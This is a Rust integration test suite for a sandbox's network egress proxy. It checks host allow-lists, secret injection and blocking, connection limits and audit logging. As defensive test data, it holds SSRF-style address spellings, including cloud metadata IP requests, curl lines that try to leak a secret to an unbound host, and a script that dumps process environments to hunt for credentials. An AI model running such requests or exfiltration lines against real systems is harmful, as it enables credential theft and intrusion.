//! `clawcage run` with `[network]`: real origin servers on 127.0.0.1 named
//! through `[network.hosts]`, clients inside the sandbox (curl, python3,
//! git), the proxy on the listener init handed out, and the audit log.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod egress_support;

use common::{command_with, state_dir_for, Run, TempDir};
use egress_support::{Origin, OriginOpts, TestCa};
use std::process::Stdio;

fn run(ws: &TempDir, policy: &str, script: &str, env: &[(&str, &str)]) -> Run {
    let mut cmd = command_with(ws.path(), Some(policy), &[], &["/bin/sh", "-c", script]);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    use std::os::unix::process::ExitStatusExt;
    Run {
        code: out.status.code().unwrap_or_else(|| 128 + out.status.signal().unwrap_or(0)),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn audit(ws: &TempDir) -> String {
    std::fs::read_to_string(state_dir_for(ws.path()).join("audit.jsonl")).unwrap_or_default()
}

#[test]
fn an_allowed_host_works_with_curl_and_python_and_https_to_it_is_tunnelled_untouched() {
    let ws = TempDir::new("egress-ok");
    let web = Origin::start(OriginOpts::http("web"));
    let ca = TestCa::new();
    let tls = Origin::start(OriginOpts::https("tls", &ca, &["tls.test"]));
    ws.write("origin-ca.pem", &ca.pem);
    let policy = format!(
        "[network]\nallow = [\"web.test:{w}\", \"tls.test:{t}\"]\nallow_ips = [\"127.0.0.1\"]\n\
         [network.hosts]\n\"web.test\" = \"127.0.0.1\"\n\"tls.test\" = \"127.0.0.1\"\n",
        w = web.port,
        t = tls.port
    );
    let script = format!(
        "curl -sS http://web.test:{w}/curl && \
         python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://web.test:{w}/py\").read().decode(), end=\"\")' && \
         curl -sS --cacert origin-ca.pem https://tls.test:{t}/tunnel && \
         python3 -c 'import ssl, urllib.request; c = ssl.create_default_context(cafile=\"origin-ca.pem\"); print(urllib.request.urlopen(\"https://tls.test:{t}/pytls\", context=c).read().decode(), end=\"\")'",
        w = web.port,
        t = tls.port
    );
    let r = run(&ws, &policy, &script, &[]);
    r.expect_code(0);
    assert_eq!(
        r.stdout,
        "origin=web path=/curl auth=none\norigin=web path=/py auth=none\n\
         origin=tls path=/tunnel auth=none\norigin=tls path=/pytls auth=none\n",
        "{}",
        r.stderr
    );
    // The origin saw origin-form requests with the right Host.
    let seen = web.requests();
    assert_eq!(seen.len(), 2);
    assert!(seen[0].head.starts_with("GET /curl HTTP/1.1"), "{}", seen[0].head);
    assert_eq!(seen[0].header("host"), Some(format!("web.test:{}", web.port)));
    assert!(seen[0].header("proxy-connection").is_none());
    // Each decision is in the audit log, before the command ended.
    let log = audit(&ws);
    let allow = log.find("\"decision\":\"allow\"").expect("allow recorded");
    assert!(log.contains(&format!("\"rule\":\"web.test:{}\"", web.port)), "{log}");
    assert!(log.contains("\"kind\":\"network_end\""), "{log}");
    assert!(allow < log.find("\"kind\":\"exec_end\"").unwrap());
}

#[test]
fn unlisted_hosts_get_a_403_that_names_the_rule_to_add() {
    let ws = TempDir::new("egress-403");
    let web = Origin::start(OriginOpts::http("web"));
    let policy = format!(
        "[network]\nallow = [\"web.test:{p}\"]\nallow_ips = [\"127.0.0.1\"]\n[network.hosts]\n\"web.test\" = \"127.0.0.1\"\n\"other.test\" = \"127.0.0.1\"\n",
        p = web.port
    );
    let script = format!(
        "curl -sS -w '%{{http_code}}\\n' http://other.test:{p}/; curl -sS -o /dev/null -w '%{{http_code}}\\n' https://other.test:{p}/ 2>&1; true",
        p = web.port
    );
    let r = run(&ws, &policy, &script, &[]);
    r.expect_code(0);
    let policy_file = ws.path().with_extension("policy.toml");
    let rule = format!("add \"other.test:{}\" to [network] allow in {}", web.port, policy_file.display());
    assert!(r.stdout.contains(&rule), "{}", r.stdout);
    assert!(r.stdout.contains("403"), "{}", r.stdout);
    assert!(web.requests().is_empty(), "nothing reached the origin");
    let log = audit(&ws);
    assert!(log.contains("\"host\":\"other.test\"") && log.contains("\"decision\":\"deny\""), "{log}");
}

/// A python client inside that speaks raw HTTP to the proxy, so that what the
/// proxy sees is exactly what an attacker wrote (curl would tidy it up).
const RAW_CLIENT: &str = r#"
import socket, sys
def ask(line, host=None):
    s = socket.create_connection(("127.0.0.1", 3128))
    req = line + "\r\n" + ("Host: %s\r\n" % host if host else "") + "Connection: close\r\n\r\n"
    s.sendall(req.encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data and (data.startswith(b"HTTP/1.1 200") and line.startswith("CONNECT")):
            break
    s.close()
    status = data.split(b"\r\n", 1)[0].decode()
    body = data.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip().replace("\n", " | ")
    print("%s => %s => %s" % (line, status, body))
for l in sys.stdin.read().splitlines():
    parts = l.split(" HOST ")
    ask(parts[0], parts[1] if len(parts) > 1 else None)
"#;

#[test]
fn every_spelling_of_an_address_and_every_trick_with_names_is_refused() {
    let ws = TempDir::new("egress-tricks");
    let web = Origin::start(OriginOpts::http("web"));
    let p = web.port;
    ws.write("raw.py", RAW_CLIENT);
    let policy = format!(
        "[network]\nallow = [\"web.test:{p}\", \"xn--bcher-kva.test:{p}\", \"169.254.169.254:80\", \"meta.test:80\", \"internal.test:{p}\"]\n\
         allow_ips = [\"127.0.0.1\"]\n\
         [network.hosts]\n\"web.test\" = \"127.0.0.1\"\n\"xn--bcher-kva.test\" = \"127.0.0.1\"\n\
         \"meta.test\" = \"169.254.169.254\"\n\"internal.test\" = \"127.0.0.2\"\n"
    );
    let lines = [
        format!("CONNECT 127.0.0.1:{p} HTTP/1.1"),
        format!("CONNECT 2130706433:{p} HTTP/1.1"),
        format!("CONNECT 0x7f000001:{p} HTTP/1.1"),
        format!("CONNECT 0177.0.0.1:{p} HTTP/1.1"),
        format!("CONNECT 127.1:{p} HTTP/1.1"),
        format!("CONNECT [::ffff:127.0.0.1]:{p} HTTP/1.1"),
        format!("CONNECT [::1]:{p} HTTP/1.1"),
        format!("GET http://0x7f.1:{p}/ HTTP/1.1 HOST 0x7f.1:{p}"),
        format!("CONNECT Other.TEST.:{p} HTTP/1.1"),
        format!("CONNECT xn--pi-7kc.test:{p} HTTP/1.1"), // Cyrillic "а" in "api"
        format!("GET http://web.test:{p}/ HTTP/1.1 HOST other.test:{p}"),
        "CONNECT 169.254.169.254:80 HTTP/1.1".to_string(),
        "CONNECT meta.test:80 HTTP/1.1".to_string(),
        format!("CONNECT internal.test:{p} HTTP/1.1"),
        // Allowed: the same names in other spellings.
        format!("GET http://WEB.test.:{p}/case HTTP/1.1 HOST web.TEST:{p}"),
        format!("GET http://XN--BCHER-KVA.test:{p}/idna HTTP/1.1 HOST xn--bcher-kva.test:{p}"),
    ];
    let script = "python3 raw.py < lines.txt";
    ws.write("lines.txt", &(lines.join("\n") + "\n"));
    let r = run(&ws, &policy, script, &[]);
    r.expect_code(0);
    let out: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(out.len(), lines.len(), "{}\n{}", r.stdout, r.stderr);
    let refused_as = |i: usize, what: &str| {
        assert!(out[i].contains("403"), "{}", out[i]);
        assert!(out[i].contains(what), "{} lacks {what}", out[i]);
    };
    for i in 0..=5 {
        refused_as(i, &format!("add \"127.0.0.1:{p}\""));
    }
    refused_as(6, &format!("add \"[::1]:{p}\""));
    refused_as(7, &format!("add \"127.0.0.1:{p}\""));
    refused_as(8, &format!("add \"other.test:{p}\""));
    refused_as(9, &format!("add \"xn--pi-7kc.test:{p}\""));
    refused_as(10, "does not match");
    refused_as(11, "link-local");
    refused_as(12, "link-local");
    refused_as(13, "loopback");
    assert!(out[14].contains("200") && out[14].contains("path=/case"), "{}", out[14]);
    assert!(out[15].contains("200") && out[15].contains("path=/idna"), "{}", out[15]);
    let paths: Vec<String> = web.requests().iter().map(|s| s.head.lines().next().unwrap().to_string()).collect();
    assert_eq!(paths, ["GET /case HTTP/1.1", "GET /idna HTTP/1.1"], "nothing else reached the origin");
    // Audited under the canonical name.
    let log = audit(&ws);
    assert!(log.contains("\"host\":\"web.test\""), "{log}");
    assert!(log.contains("\"host\":\"127.0.0.1\""), "{log}");
}

#[test]
fn without_the_proxy_nothing_gets_out_no_resolver_no_udp_no_direct_connect() {
    let ws = TempDir::new("egress-direct");
    let web = Origin::start(OriginOpts::http("web"));
    let policy = format!(
        "[network]\nallow = [\"web.test:{p}\"]\nallow_ips = [\"127.0.0.1\"]\n[network.hosts]\n\"web.test\" = \"127.0.0.1\"\n",
        p = web.port
    );
    let py = format!(
        r#"
import socket, errno
def tcp(addr):
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect(addr); return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
print("host-loopback", tcp(("127.0.0.1", {p})))
print("documentation-ip", tcp(("192.0.2.1", 80)))
print("metadata", tcp(("169.254.169.254", 80)))
try:
    socket.getaddrinfo("web.test", 80); print("resolve web.test ok")
except OSError as e:
    print("resolve web.test failed")
try:
    socket.getaddrinfo("example.com", 80); print("resolve example.com ok")
except OSError as e:
    print("resolve example.com failed")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"\x00", ("192.0.2.53", 53)); print("udp sent")
except OSError as e:
    print("udp", errno.errorcode.get(e.errno, str(e)))
u.settimeout(1)
u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", ("127.0.0.1", 53))
try:
    u.recvfrom(512); print("dns answered")
except OSError as e:
    print("no dns answer")
"#,
        p = web.port
    );
    ws.write("direct.py", &py);
    let r = run(&ws, &policy, "python3 direct.py", &[]);
    r.expect_code(0);
    assert_eq!(
        r.stdout,
        "host-loopback ECONNREFUSED\ndocumentation-ip ENETUNREACH\nmetadata ENETUNREACH\n\
         resolve web.test failed\nresolve example.com failed\nudp ENETUNREACH\nno dns answer\n",
        "{}",
        r.stderr
    );
    assert!(web.requests().is_empty());
}

#[test]
fn a_secret_reaches_only_its_bound_host_and_its_placeholder_is_blocked_elsewhere() {
    let ws = TempDir::new("egress-secret");
    let real = format!("ghp_real_{}", std::process::id());
    let ca = TestCa::new();
    let mut api = OriginOpts::https("api", &ca, &["api.test"]);
    api.secret = Some(real.clone());
    let api = Origin::start(api);
    let mut web = OriginOpts::http("web");
    web.secret = Some(real.clone());
    let web = Origin::start(web);
    // Outside the workspace (the sandbox's view), removed with `files`.
    let files = TempDir::new("egress-files");
    let ca_file = files.write("origin-ca.pem", &ca.pem);
    let policy = format!(
        "[network]\nallow = [\"api.test:{a}\", \"web.test:{w}\"]\nallow_ips = [\"127.0.0.1\"]\nca = [\"{ca}\"]\n\
         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\"web.test\" = \"127.0.0.1\"\n\
         [secrets.gh]\nfrom = \"env:CLAWCAGE_TEST_GH\"\nhosts = [\"api.test\"]\n",
        a = api.port,
        w = web.port,
        ca = ca_file.display()
    );
    let script = format!(
        "curl -sS -H \"Authorization: Bearer $CLAWCAGE_TEST_GH\" https://api.test:{a}/with-placeholder; \
         curl -sS https://api.test:{a}/injected; \
         python3 -c 'import os, urllib.request; r = urllib.request.Request(\"https://api.test:{a}/py\", headers={{\"Authorization\": \"token \" + os.environ[\"CLAWCAGE_TEST_GH\"]}}); print(urllib.request.urlopen(r).read().decode(), end=\"\")'; \
         curl -sS http://web.test:{w}/plain; \
         curl -sS \"http://web.test:{w}/steal?t=$CLAWCAGE_TEST_GH\"; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' -H \"X-Leak: $CLAWCAGE_TEST_GH\" http://web.test:{w}/steal2; \
         echo placeholder=$CLAWCAGE_TEST_GH",
        a = api.port,
        w = web.port
    );
    let r = run(&ws, &policy, &script, &[("CLAWCAGE_TEST_GH", &real)]);
    r.expect_code(0);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines[0], "origin=api path=/with-placeholder auth=match", "{}\n{}", r.stdout, r.stderr);
    assert_eq!(lines[1], "origin=api path=/injected auth=match");
    assert_eq!(lines[2], "origin=api path=/py auth=match");
    assert_eq!(lines[3], "origin=web path=/plain auth=none");
    assert!(lines[4].contains("blocked") && lines[4].contains("\"gh\""), "{}", lines[4]);
    assert_eq!(lines[5], "403");
    let placeholder = lines[6].strip_prefix("placeholder=").unwrap();
    assert!(placeholder.starts_with("clawcage-secret-gh-"), "{placeholder}");
    // What the origins got: the value at api, never at web; the placeholder nowhere.
    let api_seen = api.requests();
    assert_eq!(api_seen.len(), 3);
    assert_eq!(api_seen[0].header("authorization"), Some(format!("Bearer {real}")));
    assert_eq!(api_seen[2].header("authorization"), Some(format!("token {real}")));
    let web_seen = web.requests();
    assert_eq!(web_seen.len(), 1, "blocked requests never left");
    assert!(!web_seen[0].head.contains(&real) && !web_seen[0].head.contains(placeholder));
    assert!(!r.stdout.contains(&real) && !r.stderr.contains(&real));
    // Audited by name, never by value.
    let log = audit(&ws);
    assert!(log.contains("\"action\":\"injected\"") && log.contains("\"action\":\"blocked\""), "{log}");
    assert!(log.contains("\"name\":\"gh\""));
    assert!(!log.contains(&real), "the audit log holds no secret value");
}

#[test]
fn the_real_secret_is_absent_from_everything_the_sandbox_can_read() {
    let ws = TempDir::new("egress-absent");
    let real = format!("sk_live_absent_{}", std::process::id());
    // Outside the workspace (the sandbox's view), removed with `files`.
    let files = TempDir::new("egress-files");
    let key_file = files.write("key", &format!("{real}-file\n"));
    let policy = format!(
        "[network]\nallow = [\"api.test\"]\n\
         [secrets.env-secret]\nfrom = \"env:CLAWCAGE_TEST_ABSENT\"\nhosts = [\"api.test\"]\n\
         [secrets.file-secret]\nfrom = \"file:{}\"\nhosts = [\"api.test\"]\nenv = \"FILE_SECRET\"\n",
        key_file.display()
    );
    // Everything readable: environment of every process, command lines,
    // the files of the sandbox (the key file's directory is not visible).
    let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
                  grep -rIs -e sk_live_absent /tmp /home /run /etc \"$PWD\" 2>/dev/null | head -5; \
                  ls -la /proc/1/ 2>&1 | head -3; echo FILE_SECRET=$FILE_SECRET";
    let r = run(&ws, &policy, script, &[("CLAWCAGE_TEST_ABSENT", &real)]);
    r.expect_code(0);
    assert!(r.stdout.contains("CLAWCAGE_TEST_ABSENT=clawcage-secret-env-secret-"), "{}", r.stdout);
    assert!(r.stdout.contains("FILE_SECRET=clawcage-secret-file-secret-"), "{}", r.stdout);
    assert!(!r.stdout.contains(&real), "the value leaked into the sandbox:\n{}", r.stdout);
}

#[test]
fn git_clones_over_http_through_the_proxy() {
    let ws = TempDir::new("egress-git");
    let served = TempDir::new("egress-git-served");
    let sh = |script: &str| {
        let st = std::process::Command::new("sh").arg("-c").arg(script).current_dir(served.path()).status().unwrap();
        assert!(st.success(), "{script}");
    };
    sh("git init -q src && cd src && echo hello-from-git > README && git add README && \
        git -c user.name=t -c user.email=t@t commit -qm init && cd .. && \
        git clone -q --bare src repo.git && cd repo.git && git update-server-info");
    let mut o = OriginOpts::http("git");
    o.root = Some(served.path().to_path_buf());
    let git = Origin::start(o);
    let policy = format!(
        "[network]\nallow = [\"git.test:{p}\"]\nallow_ips = [\"127.0.0.1\"]\n[network.hosts]\n\"git.test\" = \"127.0.0.1\"\n",
        p = git.port
    );
    let script = format!("cd /tmp && git clone -q http://git.test:{}/repo.git out && cat out/README", git.port);
    let r = run(&ws, &policy, &script, &[]);
    r.expect_code(0);
    assert_eq!(r.stdout, "hello-from-git\n", "{}", r.stderr);
    assert!(git.requests().iter().any(|s| s.head.contains("info/refs")));
}

#[test]
fn a_bound_host_that_closes_after_each_response_is_reconnected_through_a_fresh_decision() {
    let ws = TempDir::new("egress-reconnect");
    let real = format!("ghp_reconnect_{}", std::process::id());
    let ca = TestCa::new();
    let mut api = OriginOpts::https("api", &ca, &["api.test"]);
    api.secret = Some(real.clone());
    api.close_each = true;
    let api = Origin::start(api);
    // Outside the workspace (the sandbox's view), removed with `files`.
    let files = TempDir::new("egress-files");
    let ca_file = files.write("origin-ca.pem", &ca.pem);
    let policy = format!(
        "[network]\nallow = [\"api.test:{a}\"]\nallow_ips = [\"127.0.0.1\"]\nca = [\"{ca}\"]\n\
         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\
         [secrets.gh]\nfrom = \"env:CLAWCAGE_TEST_GH\"\nhosts = [\"api.test\"]\n",
        a = api.port,
        ca = ca_file.display()
    );
    // One curl, three URLs: one client connection (one CONNECT) to the
    // proxy, while the origin hangs up after every answer.
    let script =
        format!("curl -sS https://api.test:{a}/one https://api.test:{a}/two https://api.test:{a}/three", a = api.port);
    let r = run(&ws, &policy, &script, &[("CLAWCAGE_TEST_GH", &real)]);
    r.expect_code(0);
    assert_eq!(
        r.stdout,
        "origin=api path=/one auth=match\norigin=api path=/two auth=match\norigin=api path=/three auth=match\n",
        "{}",
        r.stderr
    );
    assert_eq!(api.requests().len(), 3);
    // Each upstream connection was decided (and recorded) on its own.
    let log = audit(&ws);
    let allows =
        log.lines().filter(|l| l.contains("\"kind\":\"network\"") && l.contains("\"decision\":\"allow\"")).count();
    assert_eq!(allows, 3, "{log}");
    let ends = log.lines().filter(|l| l.contains("\"kind\":\"network_end\"")).count();
    assert_eq!(ends, 3, "{log}");
}

#[test]
fn a_placeholder_in_a_request_body_is_replaced_toward_its_host_and_blocked_elsewhere() {
    let ws = TempDir::new("egress-body");
    let real = format!("ghp_body_{}", std::process::id());
    let ca = TestCa::new();
    let mut api = OriginOpts::https("api", &ca, &["api.test"]);
    api.secret = Some(real.clone());
    let api = Origin::start(api);
    let web = Origin::start(OriginOpts::http("web"));
    // Outside the workspace (the sandbox's view), removed with `files`.
    let files = TempDir::new("egress-files");
    let ca_file = files.write("origin-ca.pem", &ca.pem);
    let policy = format!(
        "[network]\nallow = [\"api.test:{a}\", \"web.test:{w}\"]\nallow_ips = [\"127.0.0.1\"]\nca = [\"{ca}\"]\n\
         [network.hosts]\n\"api.test\" = \"127.0.0.1\"\n\"web.test\" = \"127.0.0.1\"\n\
         [secrets.gh]\nfrom = \"env:CLAWCAGE_TEST_GH\"\nhosts = [\"api.test\"]\n",
        a = api.port,
        w = web.port,
        ca = ca_file.display()
    );
    // A 3 MiB body (streamed, not buffered) with the placeholder in the
    // middle, split by nothing but the chunking of the transfer.
    let script = format!(
        "curl -sS -H 'Content-Type: application/json' -d \"{{\\\"token\\\":\\\"$CLAWCAGE_TEST_GH\\\"}}\" https://api.test:{a}/json; \
         curl -sS -w ' code=%{{http_code}}\\n' -d \"user=me&token=$CLAWCAGE_TEST_GH\" http://web.test:{w}/form; \
         python3 -c 'import os,sys; p=os.environ[\"CLAWCAGE_TEST_GH\"].encode(); sys.stdout.buffer.write(b\"a\"*1500000 + p + b\"b\"*1500000)' > /tmp/big; \
         curl -sS -o /dev/null -w 'big code=%{{http_code}}\\n' --data-binary @/tmp/big http://web.test:{w}/upload; \
         curl -sS -w ' code=%{{http_code}}\\n' -d 'nothing=secret' http://web.test:{w}/clean",
        a = api.port,
        w = web.port
    );
    let r = run(&ws, &policy, &script, &[("CLAWCAGE_TEST_GH", &real)]);
    r.expect_code(0);
    assert_eq!(
        r.stdout,
        format!(
            "origin=api path=/json auth=match\n\
             clawcage egress: request to web.test:{w} blocked: it carries the placeholder of secret \"gh\", which is not bound to this host\n code=403\n\
             big code=403\n\
             origin=web path=/clean auth=none\n code=200\n",
            w = web.port
        ),
        "{}",
        r.stderr
    );
    // The bound host got the value in the body (with the length to match).
    let got = api.requests();
    assert_eq!(got.len(), 1);
    assert_eq!(String::from_utf8_lossy(&got[0].body), format!("{{\"token\":\"{real}\"}}"));
    assert_eq!(got[0].header("content-length"), Some(got[0].body.len().to_string()));
    // Only the clean request reached the other host, whole.
    let seen = web.requests();
    assert_eq!(seen.len(), 1, "{:?}", seen.iter().map(|s| s.head.lines().next()).collect::<Vec<_>>());
    assert!(seen[0].head.starts_with("POST /clean"));
    let log = audit(&ws);
    let blocked = log.lines().filter(|l| l.contains("\"action\":\"blocked\"")).count();
    assert_eq!(blocked, 2, "{log}");
    assert!(!log.contains(&real));
}

#[test]
fn tunnels_held_open_from_inside_the_sandbox_cannot_exceed_max_connections() {
    let ws = TempDir::new("egress-maxconn");
    let web = Origin::start(OriginOpts::http("web"));
    let policy = format!(
        "[network]\nallow = [\"web.test:{p}\"]\nallow_ips = [\"127.0.0.1\"]\nmax_connections = 3\n\
         [network.hosts]\n\"web.test\" = \"127.0.0.1\"\n",
        p = web.port
    );
    // Open tunnels one by one and keep every one of them, then use the
    // first, then close one and open another.
    let py = format!(
        r#"
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
def tunnel():
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(b"CONNECT web.test:{p} HTTP/1.1\r\nHost: web.test:{p}\r\n\r\n")
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        b = s.recv(1)
        if not b: break
        head += b
    return s, head.split(b" ")[1].decode() if head else "closed"
def get(s, path):
    s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: web.test\r\n\r\n")
    got = b""
    while b"\r\n\r\n" not in got:
        got += s.recv(4096)
    head, body = got.split(b"\r\n\r\n", 1)
    n = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0])
    while len(body) < n:
        body += s.recv(4096)
    return body.decode().strip()
held = []
for i in range(5):
    s, code = tunnel()
    print("tunnel", i, code)
    held.append(s)
print(get(held[0], b"/first"))
held[1].close()
held[3].close()
held[4].close()
import time
for _ in range(100):
    s, code = tunnel()
    if code == "200": break
    s.close(); time.sleep(0.05)
print("after close", code, get(s, b"/again"))
"#,
        p = web.port
    );
    ws.write("hold.py", &py);
    let r = run(&ws, &policy, "python3 hold.py", &[]);
    r.expect_code(0);
    assert_eq!(
        r.stdout,
        "tunnel 0 200\ntunnel 1 200\ntunnel 2 200\ntunnel 3 429\ntunnel 4 429\n\
         origin=web path=/first auth=none\nafter close 200 origin=web path=/again auth=none\n",
        "{}",
        r.stderr
    );
    assert_eq!(web.requests().len(), 2, "no refused tunnel reached the host");
    let log = audit(&ws);
    assert!(log.contains("max_connections reached"), "{log}");
}
